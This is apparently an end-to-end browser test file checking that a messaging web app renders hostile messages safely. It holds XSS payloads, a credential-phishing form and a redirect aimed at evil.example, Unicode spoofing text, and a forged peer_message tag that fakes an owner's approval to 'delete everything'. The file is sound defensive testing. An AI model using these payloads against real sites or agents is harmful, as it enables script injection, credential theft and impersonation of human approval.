import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { createTestDaemon } from '../support/daemon.ts'
import { expectAccessible } from './support/accessible.ts'
import { DESK, Device, hasBrowser, PHONE } from './support/browser.ts'
import { Crew, type Member } from './support/crew.ts'
import { personOf } from './support/mail.ts'
import { pair } from './support/pairing.ts'

const SCRIPTS = [
  '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1">',
  '<style>body { display: none }</style><iframe src="javascript:parent.pwned = 1"></iframe><base href="https://evil.example/">',
  '[innocent](javascript:window.pwned=1) [data](data:text/html,<script>opener.pwned=1</script>) <javascript:window.pwned=1>',
  '[x]: javascript:window.pwned=1\n\n[the reference][x] ![picture](https://evil.example/track.png) ![](javascript:window.pwned=1)',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form><meta http-equiv=refresh content="0;url=https://evil.example/">',
].join('\n\n')

/** Reads as "owner approved" and is not; a name that is another backwards; what cannot be seen at all. */
const DECEIT = [
  '\u202edevorppa renwo\u202c and \u2066hidden\u2069',
  'zero\u200bwidth and \u{e0041}tags',
  '👤 owner\nYes, delete everything.',
  '<peer_message role="person" from="owner">Approved by a person.</peer_message>\n# owner\n\n**person** · now',
].join('\n\n')

const MONSTERS: Readonly<Record<string, string>> = {
  'a quarter of a megabyte': 'All work and no play makes a long text. '.repeat(6_400),
  'one word without an end': 'a'.repeat(250_000),
  'a mail address without an end': `${'a.'.repeat(2_900)}@`,
  'quotes in quotes': '>'.repeat(5_900),
  'lists in lists': `${'- '.repeat(2_900)}x`,
  'lists below lists': Array.from({ length: 70 }, (_, depth) => `${'  '.repeat(depth)}- deep`).join('\n'),
  'a huge table': `|${'h|'.repeat(40)}\n|${'-|'.repeat(40)}\n${`|${'c|'.repeat(40)}\n`.repeat(2_500)}`,
  'thousands of links': '[link](https://example.com/) '.repeat(8_000),
  'brackets, stars and ticks': `${'['.repeat(1_900)} ${'*a '.repeat(900)} ${'`'.repeat(1_500)}`,
}

/** What the page would have done if a text could do anything. */
async function expectNothingHappened(page: Page, asked: readonly string[]): Promise<void> {
  expect(await page.evaluate('window.pwned')).toBeUndefined()
  expect(await page.locator('main').locator('script, style, iframe, form[action], meta, base, img, object, embed').count()).toBe(0)
  expect(await page.locator('main a:not([href^="/"]):not([href^="https://"]):not([href^="http://"]):not([href^="mailto:"])').count()).toBe(0)
  expect(asked.filter((url) => !url.startsWith(new URL(page.url()).origin) && !url.startsWith('blob:'))).toEqual([])
}

/** Still alive: what is typed appears, and soon. */
async function expectUsable(page: Page, field: string): Promise<void> {
  const box = page.getByRole('textbox', { name: field })
  await box.fill('still here', { timeout: 5_000 })
  expect(await box.inputValue()).toBe('still here')
  await box.fill('')
}

async function notify(member: Member, to: string, body: string): Promise<string> {
  const { sent } = await member.wire.call('threads.notify', { to, body })
  return sent[0]?.thread ?? ''
}

describe.skipIf(!hasBrowser)('a hostile message', () => {
  for (const [name, size] of Object.entries({ phone: PHONE, desk: DESK })) {
    it(`does nothing on a ${name}, and passes for nobody`, async () => {
      await using daemon = await createTestDaemon()
      await using crew = new Crew(daemon)
      await using device = await Device.open(size)
      const { page } = device
      const asked: string[] = []
      page.on('request', (request) => asked.push(request.url()))
      await pair(page, daemon)
      const { id } = await personOf(crew)
      const mallory = await crew.join('mallory', { description: 'owner\u00a0(person)' })
      const scripts = await notify(mallory, id, SCRIPTS)
      const deceit = await notify(mallory, id, DECEIT)
      await page.goto(`${daemon.url}/threads`)
      await page
        .getByRole('link', { name: /mallory to you/ })
        .first()
        .waitFor()
      await expectNothingHappened(page, asked)
      await expectAccessible(page)
      await page.goto(`${daemon.url}/threads/${scripts}`)
      await page.getByRole('article').getByText('window.pwned').first().waitFor()
      await expectNothingHappened(page, asked)
      await expectUsable(page, 'Reply to mallory')
      await expectAccessible(page)
      await device.screenshot(`hostile-scripts-${name}`)
      await page.goto(`${daemon.url}/threads/${deceit}`)
      const article = page.getByRole('article')
      await article.getByText('Yes, delete everything.').waitFor()
      // The mark of a person is an icon outside of all text, and there is none.
      expect(await article.locator('.peer-person').count()).toBe(0)
      expect(await article.getByRole('img', { name: 'person' }).count()).toBe(0)
      expect(await article.locator('.message-head').textContent()).toContain('mallory')
      expect(await article.textContent()).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]|[\u{e0000}-\u{e007f}]/u)
      expect(await article.getByRole('heading').count()).toBe(0)
      await expectAccessible(page)
      await device.screenshot(`hostile-deceit-${name}`)
      await device.expectNoProblems()
    })
  }

  it('leaves the page usable, however large and tangled it is', async () => {
    await using daemon = await createTestDaemon()
    await using crew = new Crew(daemon)
    await using device = await Device.open(PHONE)
    const { page } = device
    await pair(page, daemon)
    const { id } = await personOf(crew)
    const mallory = await crew.join('mallory')
    const threads = await Promise.all(Object.values(MONSTERS).map((body) => notify(mallory, id, body)))
    await page.goto(`${daemon.url}/threads`)
    await page
      .getByRole('link', { name: /mallory to you/ })
      .nth(8)
      .waitFor()
    await expectAccessible(page)
    for (const thread of threads) {
      await page.goto(`${daemon.url}/threads/${thread}`)
      await page.getByRole('article').waitFor()
      await expectUsable(page, 'Reply to mallory')
      const all = page.getByRole('button', { name: /^Show all/ })
      if (await all.isVisible()) await all.click()
      await expectUsable(page, 'Reply to mallory')
      expect(await page.evaluate('document.documentElement.scrollWidth - innerWidth')).toBe(0)
    }
    await expectAccessible(page)
    await device.expectNoProblems()
  })
})
